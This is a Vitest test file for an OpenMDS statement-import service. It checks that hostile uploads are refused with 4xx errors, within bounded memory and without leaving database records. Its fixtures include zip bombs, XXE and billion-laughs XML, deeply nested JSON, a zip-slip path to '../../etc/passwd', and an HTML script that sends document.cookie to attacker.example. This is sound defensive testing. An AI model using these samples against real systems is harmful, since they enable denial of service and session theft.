import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrg, inject, signUp, testApp, type TestApp, type TestSession } from '../../../test/support/app.js';
import { testDatabases } from '../../../test/support/databases.js';
import {
  BILLION_LAUGHS_XML,
  deflatedEntry,
  rawZip,
  XXE_SHEET,
  zipBombEntry,
  type RawZipEntry,
} from '../../../test/support/hostile.js';
import { makeZip, readZipDirectory, readZipEntry } from '../../../test/support/zip.js';
import { LIMITS } from '../../formats/errors.js';
import type { ZipImportResult } from './inventory.schema.js';

// Hostile files through HTTP: every one answers 4xx naming the problem (never 500), within bounded memory, and
// leaves no statement and no audit record behind. Time is not asserted; the limits bound the work.

const MIB = 1024 * 1024;
const nema = new Uint8Array(
  readFileSync(new URL('../../../examples/nema-mds2-example-worksheet.xlsx', import.meta.url)),
);

function withPart(zip: Uint8Array, name: string, xml: string): Uint8Array {
  return rawZip(
    readZipDirectory(zip, 'xlsx').map((e): RawZipEntry =>
      deflatedEntry(e.name, e.name === name ? xml : readZipEntry(zip, e, 'xlsx')),
    ),
  );
}

function manyEntries(count: number): Uint8Array {
  const entries: RawZipEntry[] = [];
  for (let i = 0; i < count; i++) {
    entries.push({
      name: `e/${String(i).padStart(5, '0')}`,
      packed: new Uint8Array(0),
      method: 0,
      crc: 0,
      uncompressedSize: 0,
    });
  }
  return rawZip(entries);
}

/** name, bytes, expected status, and what the message must say. */
type Case = [string, () => Uint8Array, number, RegExp];

const FILE_CASES: Case[] = [
  [
    'bomb.xlsx',
    () => rawZip([deflatedEntry('xl/workbook.xml', '<workbook/>'), zipBombEntry('xl/worksheets/sheet1.xml')]),
    400,
    /unpacks to more than 52428800 bytes/,
  ],
  [
    'liar.xlsx',
    () => rawZip([deflatedEntry('xl/workbook.xml', '<workbook/>'), zipBombEntry('xl/sharedStrings.xml', 1000)]),
    400,
    /unpacks to more than its declared size/,
  ],
  ['many.xlsx', () => manyEntries(100_000), 400, /has 100000 entries; at most 2000/],
  ['xxe.xlsx', () => withPart(nema, 'xl/worksheets/sheet1.xml', XXE_SHEET), 400, /document type declaration/],
  ['laughs.xlsx', () => withPart(nema, 'xl/sharedStrings.xml', BILLION_LAUGHS_XML), 400, /document type declaration/],
  [
    'deep.json',
    () => Buffer.from(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
    400,
    /nesting deeper than 32 levels/,
  ],
  [
    'huge.json',
    () => Buffer.concat([Buffer.from('{"format":"openmds-statement","x":"'), Buffer.alloc(LIMITS.maxFileBytes, 0x41)]),
    413,
    /too large|larger than/i,
  ],
  [
    'broken.csv',
    () => Buffer.concat([Buffer.from('row,answer\n4.1-a,'), Buffer.from([0xed, 0xa0, 0x80, 0xff, 0xc3, 0x28])]),
    400,
    /not valid UTF-8/,
  ],
  [
    'script.html',
    () => Buffer.from('<!doctype html><script>fetch("https://attacker.example/?"+document.cookie)</script>'),
    400,
    /no embedded OpenMDS statement/,
  ],
  [
    'big.html',
    () =>
      Buffer.concat([
        Buffer.from('<!doctype html><script type="application/json" id="openmds-statement">"'),
        Buffer.alloc(50 * MIB, 0x41),
        Buffer.from('"</script>'),
      ]),
    413,
    /too large|larger than/i,
  ],
  [
    'bogus.pdf',
    () =>
      Buffer.from(
        [
          '%PDF-1.7',
          '1 0 obj << /Type /Filespec /F (statement.json) /Desc (OpenMDS statement \\(JSON\\)) /EF << /F 2 0 R >> >> endobj',
          '2 0 obj << /Type /EmbeddedFile /Length 12 >> stream',
          'MZ\u0090\u0000 payload',
          'endstream',
          'endobj',
          'trailer << /Root 1 0 R >>',
          '%%EOF',
          '',
        ].join('\n'),
        'latin1',
      ),
    400,
    /not valid UTF-8|invalid JSON|damaged/,
  ],
];

describe.each(testDatabases())('hostile uploads on $name', (database) => {
  let t: TestApp;
  let owner: TestSession;
  let orgId: string;

  beforeAll(async () => {
    t = await testApp({ database });
    owner = await signUp(t.app);
    orgId = (await createOrg(t.app, owner, { kind: 'hospital' })).id;
  });
  afterAll(async () => {
    await t.close();
  });

  const upload = (url: string, data: Uint8Array, who: TestSession | null = owner) =>
    inject(t.app, who, {
      method: 'POST',
      url: `/api/v1${url}`,
      headers: { 'content-type': 'application/octet-stream' },
      payload: Buffer.from(data.buffer, data.byteOffset, data.byteLength),
      remoteAddress: '192.0.2.77',
    });
  const message = (res: { json: <T>() => T }): string => res.json<{ error: { message: string } }>().error.message;

  async function rows(): Promise<{ sources: number; audit: number }> {
    const k = t.db.kysely;
    const sources = await k
      .selectFrom('statement_sources')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    const audit = await k
      .selectFrom('audit_events')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    return { sources: Number(sources.n), audit: Number(audit.n) };
  }

  /** Sends the upload, asserts it stayed within memory and wrote nothing, and returns the answer. */
  async function refused(send: () => Promise<Awaited<ReturnType<typeof upload>>>) {
    const before = await rows();
    const memory = process.memoryUsage();
    const res = await send();
    const after = process.memoryUsage();
    expect(after.rss - memory.rss, 'resident memory growth').toBeLessThan(300 * MIB);
    expect(after.heapUsed - memory.heapUsed, 'heap growth').toBeLessThan(300 * MIB);
    expect(await rows()).toEqual(before);
    return res;
  }

  it.each(FILE_CASES)('refuses %s on POST /sources/import', async (name, data, status, reason) => {
    const res = await refused(() => upload(`/orgs/${orgId}/sources/import?file=${name}`, data()));
    expect(res.statusCode, res.body).toBe(status);
    expect(message(res)).toMatch(reason);
  });

  it.each(FILE_CASES.filter(([name]) => /\.(json|html|pdf)$/.test(name)))(
    'refuses %s on the public POST /verify',
    async (_name, data, status, reason) => {
      const res = await refused(() => upload('/verify', data(), null));
      expect(res.statusCode, res.body).toBe(status);
      expect(message(res)).toMatch(reason);
    },
  );

  it('refuses a zip archive declaring a bomb, or with 100,000 entries, or a path outside itself, whole', async () => {
    for (const [zip, reason] of [
      [rawZip([deflatedEntry('a.json', '{}'), zipBombEntry('bomb.json')]), /unpacks to more than 52428800 bytes/],
      [manyEntries(100_000), /has 100000 entries/],
      [makeZip([{ name: '../../etc/passwd', data: 'root:x:0:0' }]), /names a path outside the archive/],
    ] as const) {
      const res = await refused(() => upload(`/orgs/${orgId}/sources/import-zip`, zip));
      expect(res.statusCode, res.body).toBe(400);
      expect(message(res)).toMatch(reason);
    }
  });

  it('reports a lying bomb, a nested zip and a hostile workbook in an archive file by file, importing none', async () => {
    const zip = rawZip([
      zipBombEntry('bomb.json', 1000),
      deflatedEntry('inner.zip', makeZip([{ name: 'statement.json', data: '{}' }])),
      deflatedEntry('xxe.xlsx', withPart(nema, 'xl/worksheets/sheet1.xml', XXE_SHEET)),
      deflatedEntry('deep.json', '['.repeat(100_000)),
    ]);
    const res = await refused(() => upload(`/orgs/${orgId}/sources/import-zip`, zip));
    expect(res.statusCode, res.body).toBe(200);
    const result = res.json<ZipImportResult>();
    expect(result.imported).toBe(0);
    expect(result.failed).toBe(4);
    expect(result.files.map((f) => [f.name, f.error])).toEqual([
      ['bomb.json', expect.stringMatching(/unpacks to more than its declared size/)],
      ['inner.zip', expect.stringMatching(/no xl\/workbook.xml/)],
      ['xxe.xlsx', expect.stringMatching(/document type declaration/)],
      ['deep.json', expect.stringMatching(/nesting deeper than 32 levels/)],
    ]);
  });

  it('refuses a deeply nested or oversized JSON body on the JSON API with 400 and 413', async () => {
    const deep = await refused(() =>
      t.app.inject({
        method: 'POST',
        url: '/api/v1/validate',
        headers: { 'content-type': 'application/json' },
        payload: '['.repeat(100_000) + ']'.repeat(100_000),
      }),
    );
    expect(deep.statusCode).toBe(400);
    expect(message(deep)).toMatch(/nested deeper than the limit of 32 levels/);
    const huge = await refused(() =>
      t.app.inject({
        method: 'POST',
        url: '/api/v1/validate',
        headers: { 'content-type': 'application/json' },
        payload: `{"format":"openmds-statement","x":"${'A'.repeat(LIMITS.maxFileBytes)}"}`,
      }),
    );
    expect(huge.statusCode).toBe(413);
    expect(huge.json<{ error: { code: string } }>().error.code).toBe('payload-too-large');
  });
});
